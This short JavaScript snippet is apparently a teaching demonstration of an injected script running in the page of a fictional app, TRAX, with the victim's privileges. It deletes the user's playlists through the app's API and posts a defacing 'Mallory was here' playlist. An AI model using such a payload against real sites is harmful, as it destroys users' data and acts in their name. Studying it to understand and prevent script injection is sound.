// Runs in the page of TRAX, as if TRAX had written it: it needs no secret to do what Ada can do.
const json = { "Content-Type": "application/json" };
const body = JSON.stringify({ name: "Mallory was here" });
export const sent = fetch("/api/playlists", { method: "DELETE" })
  .then(() => fetch("/api/playlists", { method: "POST", headers: json, body }));
